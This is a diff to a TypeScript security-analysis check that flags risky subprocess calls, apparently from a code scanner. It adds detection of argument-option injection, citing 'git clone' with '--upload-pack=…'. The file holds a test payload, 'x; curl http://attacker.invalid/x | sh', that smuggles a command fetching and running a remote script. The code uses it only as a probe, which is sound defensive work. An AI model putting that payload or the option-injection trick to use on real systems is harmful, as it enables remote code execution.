@@ -1,5 +1,5 @@
 /** subprocess: shells, dynamic programs, programs off the allowlist. */
-import { classifyCommand } from '../../policy/commands.js';
+import { classifyCommand, injectableOptions, type CommandVerdict } from '../../policy/commands.js';
 import type { Action } from '../../policy/types.js';
 import type { FileFacts, TemplatePart, Value } from '../facts.js';
 import { constant, constString, dictGet, fillHoleMarkers, HOLE_PREFIX, joinValues, sanitizersOf, skeleton, taintOf, unknown } from '../values.js';
@@ -9,6 +9,27 @@ import { agentCommandCode, allowlisted, calleeText, configuredValue, EVERY_CALLE
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
+
+/**
+ * A dynamic argument standing alone (not glued after constant text), before any `--`, that the subcommand would read as
+ * an option it takes and its model denies (`git clone --branch b $url dir` with `$url` = `--upload-pack=…`): the
+ * verdict with that option there, and the option. `filled`: the arguments with every hole filled with the payload.
+ */
+function optionInjection(ctx: CheckContext, program: string, args: readonly Value[], filled: readonly string[]): { verdict: CommandVerdict; option: string } | undefined {
+  const options = injectableOptions(program, filled);
+  if (!options.length) return undefined;
+  for (let i = 0; i < args.length; i++) {
+    const a = args[i]!;
+    if (constString(a) === '--') return undefined;
+    const alone = a.kind !== 'const' && !(a.kind === 'template' && typeof a.parts[0] === 'string' && a.parts[0] !== '');
+    if (!alone || isNumber(a) || ctx.fixed(a)) continue;
+    for (const option of options) {
+      const verdict = classifyCommand({ command: program, args: filled.map((x, j) => (j === i ? `${option}=${COMMAND_PAYLOAD}` : x)) }, null);
+      if (!verdict.allowed && verdict.problem !== 'empty') return { verdict, option };
+    }
+  }
+  return undefined;
+}
 
 /** How a call spawns a process, read from the sink's `with` hints and the call's arguments. */
 export interface SpawnShape {
@@ -437,14 +458,16 @@ export const commandShell: Check = {
     const program = constString(shape.program);
     if (program === undefined) return undefined;
     const args = shape.args.map((a) => fillHoles(a, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD);
-    const verdict = classifyCommand({ command: program, args }, null);
+    // (a dynamic word standing alone after the subcommand may be an option it takes: `git clone $url` with `--upload-pack=…`)
+    const injected = classifyCommand({ command: program, args }, null).allowed ? optionInjection(ctx, program, shape.args, args) : undefined;
+    const verdict = injected?.verdict ?? classifyCommand({ command: program, args }, null);
     if (verdict.allowed || verdict.problem === 'empty') return undefined;
     const known = constArgs(shape.args);
     const taints = shape.args.flatMap((a) => unsanitized(ctx, a, []));
     const action: Action = { kind: 'exec', command: program, args };
     // `uv run test <n>`, `python -c CODE <arg>`: the constant arguments fix what runs; the dynamic ones are its data
     // (tainted data for a fixed program is what subprocess-dynamic-command reports)
-    if (!known && fixedByConstants(program, shape.args.map(constString))) return undefined;
+    if (!injected && !known && fixedByConstants(program, shape.args.map(constString))) return undefined;
     if (known) {
       return { message: `\`${callee}\` starts ${quote([program, ...known].join(' '))}: ${verdict.reason ?? 'a shell'}`, severity: 'low', action };
     }
@@ -455,8 +478,9 @@ export const commandShell: Check = {
       return { message: `\`${callee}\` starts \`${program}\` with dynamic arguments: ${verdict.reason ?? 'a shell'}; ${EVERY_CALLER_OWN}.`, severity: 'low', action };
     }
     // the verdict was reached with hostile arguments; say what the program does, not what the probe was
-    const what =
-      verdict.problem === 'interpreter'
+    const what = injected
+      ? `a dynamic argument of \`${program}\` may be read as an option (\`${injected.option}=…\`: ${(verdict.reason ?? 'it runs a program').replace(/ \(`[^`]*`\)$/, '')}); put \`--\` before the operands`
+      : verdict.problem === 'interpreter'
         ? `\`${program}\` runs the code or script its arguments name`
         : verdict.problem === 'shell'
           ? `\`${program}\` is a shell`
